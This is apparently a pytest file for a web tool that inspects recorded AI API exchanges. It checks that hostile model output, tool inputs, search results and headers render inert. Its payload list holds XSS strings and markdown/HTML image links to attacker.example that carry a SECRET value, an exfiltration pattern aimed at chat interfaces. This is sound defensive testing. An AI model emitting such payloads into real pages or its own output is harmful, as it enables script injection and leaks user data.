"""Hostile model output, request text, tool input and headers render inert on every page."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from tests.inspector.recorded import record

PAYLOADS = [
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "[click](javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![exfil](https://attacker.example/p.png?q=SECRET)",
    '<img src="https://attacker.example/raw.png?q=SECRET">',
    "<a href=\"javascript:alert(1)\">raw link</a>",
]
TEXT = "Here you go:\n\n" + "\n\n".join(PAYLOADS)


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def assert_inert(html: str) -> None:
    parser = Tags()
    parser.feed(html)
    for tag, attrs in parser.found:
        assert tag not in ("iframe", "object", "embed", "frame"), tag
        if tag == "script":
            assert (attrs.get("src") or "").startswith("/static/"), attrs
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            low = (value or "").strip().lower()
            if name in ("href", "src", "action", "formaction"):
                assert not low.startswith(("javascript:", "vbscript:", "data:text")), (tag, name, value)
        if tag == "img":
            src = attrs.get("src") or ""
            assert src.startswith(("/", "data:image/")), src


@pytest.fixture
def hostile(alice):
    body = {
        "model": "claude-haiku-4-5",
        "max_tokens": 100,
        "system": TEXT,
        "messages": [
            {"role": "user", "content": [
                {"type": "text", "text": TEXT},
                {"type": "image", "source": {"type": "url", "url": "javascript:alert(3)"}},
                {"type": "document", "source": {"type": "url", "url": "https://attacker.example/doc.pdf"}},
            ]},
            {"role": "assistant", "content": [
                {"type": "tool_use", "id": "toolu_x", "name": "<b>evil</b>", "input": {"html": TEXT}},
            ]},
            {"role": "user", "content": [
                {"type": "tool_result", "tool_use_id": "toolu_x", "content": TEXT, "is_error": True},
            ]},
        ],
    }
    reply = {
        "id": "msg_x", "type": "message", "role": "assistant", "model": "claude-haiku-4-5",
        "content": [
            {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search", "input": {"query": TEXT}},
            {"type": "web_search_tool_result", "tool_use_id": "srvtoolu_1", "content": [
                {"type": "web_search_result", "url": "javascript:alert(1)", "title": "<b>evil</b>",
                 "encrypted_content": "x" * 200},
                {"type": "web_search_result", "url": "https://example.com/ok", "title": "fine"}]},
            {"type": "text", "text": TEXT, "citations": [
                {"type": "web_search_result_location", "url": "javascript:alert(2)", "title": "c",
                 "cited_text": TEXT}]},
        ],
        "stop_reason": "end_turn", "stop_sequence": None,
        "usage": {"input_tokens": 10, "output_tokens": 20},
    }
    return record(alice, body, response=reply, response_headers={
        "content-type": "application/json", "x-evil": "<script>alert(1)</script>"})


def test_it_renders_model_output_inert_in_every_tab(client, alice, hostile):
    client.force_login(alice)
    for tab in ("conversation", "request", "response", "headers", "findings", "cache", "timeline"):
        response = client.get(f"{hostile.get_absolute_url()}?tab={tab}")
        assert response.status_code == 200
        assert_inert(response.content.decode())


def test_it_shows_external_images_as_links_not_images(client, alice, hostile):
    client.force_login(alice)
    html = client.get(hostile.get_absolute_url()).content.decode()
    assert 'href="https://attacker.example/p.png?q=SECRET"' in html
    parser = Tags()
    parser.feed(html)
    sources = [a.get("src") or "" for tag, a in parser.found if tag == "img"]
    assert not [s for s in sources if "attacker" in s]
    assert 'href="https://example.com/ok"' in html  # a safe search result stays a link


def test_it_renders_the_list_diff_and_thread_inert(client, alice, hostile):
    client.force_login(alice)
    pages = [
        "/exchanges/",
        f"/exchanges/?q={'alert'}",
        f"/exchanges/diff/?a={hostile.public_id}&b={hostile.public_id}",
    ]
    if hostile.thread_id:
        pages.append(f"/exchanges/threads/{hostile.thread.public_id}/")
        pages.append("/exchanges/threads/")
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_inert(response.content.decode())


def test_it_sends_a_strict_content_security_policy(client, alice, hostile):
    client.force_login(alice)
    csp = client.get(hostile.get_absolute_url())["Content-Security-Policy"]
    assert "script-src 'self'" in csp
    assert "unsafe-inline" not in csp.split("script-src", 1)[1].split(";", 1)[0]
